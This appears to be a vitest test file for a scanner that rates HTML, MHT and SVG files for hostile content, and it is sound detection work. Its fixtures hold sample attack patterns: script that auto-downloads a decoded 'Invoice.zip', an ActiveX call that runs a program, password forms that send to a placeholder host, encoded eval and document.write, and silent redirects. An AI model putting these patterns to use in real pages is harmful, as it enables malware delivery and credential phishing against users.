import { describe, expect, it } from 'vitest';
import { carriersIn, text, worstOf } from '../../../test/files/scan-carriers.ts';

const page = (body: string, head = '') =>
  text(`<!doctype html><html><head><title>a</title>${head}</head><body>${body}</body></html>`);
const base64 = (content: string) => Buffer.from(content, 'latin1').toString('base64');
const PROGRAM = base64(`PK\x03\x04${'\0'.repeat(80)}`);
const FORM = '<form action="https://x.example/a"><input name="a"></form>';
const WORDS = '<p>Minutes of the meeting on Tuesday, as everybody agreed on them.</p>';

describe('a page', () => {
  const save = (data: string) =>
    `<script>var d=${data};var u=new Uint8Array(atob(d).split("").map(function(c){return c.charCodeAt(0)}));` +
    'var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));' +
    'a.download="Invoice.zip";a.click();</script>';
  it('that builds an archive is High, and the archive is a part', async () => {
    expect(await carriersIn(page(save(`"${PROGRAM}"`)), 'a.html')).toEqual([
      'page-builds-file (4)',
    ]);
  });

  it('that builds what nobody knows, and is nothing else, is High', async () => {
    const unknown = base64(
      String.fromCharCode(...Array.from({ length: 300 }, (_, at) => (at * 7) & 255)),
    );
    expect(await carriersIn(page(save(`"${unknown}"`)), 'a.html')).toEqual([
      'page-builds-file (4)',
    ]);
  });

  it('with a program behind a link to save it is High', async () => {
    const link = `<a download="a.zip" href="data:application/zip;base64,${PROGRAM}">Open</a>`;
    expect(await carriersIn(page(link), 'a.html')).toEqual(['page-builds-file (4)']);
  });

  it('that starts programs is High', async () => {
    const script = '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>';
    expect(await carriersIn(page(script), 'a.html')).toContain('page-runs-programs (4)');
  });

  const form = (action: string) =>
    `<form action="${action}"><input type="password" name="p"></form>`;
  it.each([
    ['to a server', page(form('https://x.example/post.php'))],
    [
      'by a script',
      page(`${form('')}<script>fetch("https://x.example/p",{method:"POST"})</script>`),
    ],
    [
      'to an encoded address',
      page(`${form('')}<script>var u=atob("${base64('https://x.example/post')}")</script>`),
    ],
    [
      'from a page in a frame',
      page(
        `<iframe src="data:text/html;base64,${base64(`<html>${form('https://x.example/p')}</html>`)}"></iframe>`,
      ),
    ],
  ])('that sends a password %s is Medium', async (_what, content) => {
    expect(await carriersIn(content, 'a.html')).toContain('page-sends-password (3)');
  });

  it.each([
    [
      'writes a form out of an encoded text',
      page(`<script>document.write(unescape("${escape(FORM)}"))</script>`),
      'page-unpacks (3)',
    ],
    [
      'runs an encoded text',
      page(`<script>eval(atob("${base64('alert("a sample")')}"))</script>`),
      'page-unpacks (3)',
    ],
    [
      'leads on and shows nothing',
      page('', '<meta http-equiv="refresh" content="0; url=https://x.example/a">'),
      'page-redirects (3)',
    ],
    [
      'leads on by a script',
      page('<script>window.location.href="https://x.example/a"</script>'),
      'page-redirects (3)',
    ],
    [
      'leads on with the address of its reader',
      page(
        WORDS,
        '<meta http-equiv="refresh" content="1;URL=https://x.example/a?e=b@two.example">',
      ),
      'page-redirects (3)',
    ],
    [
      'leads to an encoded address',
      page(`${WORDS}<script>location.replace(atob("aHR0cHM6Ly94LmV4YW1wbGU="))</script>`),
      'page-redirects (3)',
    ],
  ])('that %s is Medium', async (_what, content, told) => {
    expect(await carriersIn(content, 'a.html')).toEqual([told]);
  });

  it.each([
    [
      'a table that sorts itself',
      page(`${WORDS}<script>document.querySelector("th").onclick=sort;</script>`),
    ],
    [
      'a table that is saved by a click',
      page(
        `${WORDS}<button onclick="save()">Save</button><script>function save(){var a=document.createElement("a");` +
          'a.href=URL.createObjectURL(new Blob([rows.join("\\n")]));a.download="rows.csv";a.click();}</script>',
      ),
    ],
    ['a form of the page itself', page(`${WORDS}${form('/session')}`)],
    [
      'a page saved from a site with its form',
      page(
        form('https://www.x.example/session'),
        '<link rel="canonical" href="https://x.example/login">',
      ),
    ],
    [
      'a form without a password',
      page('<form action="https://x.example/find"><input name="q"></form>'),
    ],
    [
      'a page that moved and says where to',
      page(
        '<a href="https://x.example/new">Here</a>',
        '<meta http-equiv="refresh" content="0; url=https://x.example/new">',
      ),
    ],
    [
      'a page that leads within its folder',
      page('', '<meta http-equiv="refresh" content="0; url=b/index.html">'),
    ],
    [
      'a page with a counter of old',
      page(
        `${WORDS}<script>document.write(unescape("` +
          `%3Cscript src='https://x.example/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
      ),
    ],
    [
      'a page with a picture in it',
      page(`${WORDS}<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`),
    ],
  ])('that is %s is below Medium', async (_what, content) => {
    expect(await worstOf(content, 'a.html')).toBeLessThan(3);
  });

  it('saved as a mail is looked at as well', async () => {
    const content = text(
      'From: <Saved>\r\nSubject: a\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n' +
        'Content-Transfer-Encoding: quoted-printable\r\n\r\n' +
        '<html><body><form action=3D"https://x.exam=\r\nple/p"><input type=3D"password"></form></body></html>\r\n',
    );
    expect(await carriersIn(content, 'a.mht')).toEqual(['page-sends-password (3)']);
  });
});

describe('a drawing', () => {
  const svg = (body: string, attributes = '') =>
    text(
      `<svg xmlns="http://www.w3.org/2000/svg"${attributes}><rect width="9" height="9"/>${body}</svg>`,
    );
  it.each([
    ['leads away', svg('<script>window.location="https://x.example"</script>')],
    ['loads a script', svg('<script href="https://x.example/a.js"/>')],
    ['decodes', svg('<script><![CDATA[eval(atob("YQ=="))]]></script>')],
  ])('that %s is High', async (_what, content) => {
    expect(await carriersIn(content, 'a.svg')).toEqual(['drawing-leads-away (4)']);
  });

  it.each([
    ['runs what is not in it', svg('', ' onload="start()"')],
    ['shows a page', svg('<foreignObject><iframe src="https://x.example"/></foreignObject>')],
  ])('that %s is Medium', async (_what, content) => {
    expect(await carriersIn(content, 'a.svg')).toEqual(['drawing-runs-script (3)']);
  });

  it('whose script answers the pointer is Low, and one without says nothing', async () => {
    const chart = svg(
      '<script>function tip(e){e.target.setAttribute("fill","red")}</script>',
      ' onload="tip(evt)"',
    );
    expect(await carriersIn(chart, 'a.svg')).toEqual(['drawing-script (2)']);
    expect(
      await carriersIn(svg('<a href="https://x.example"><text>a</text></a>'), 'a.svg'),
    ).toEqual([]);
  });
});
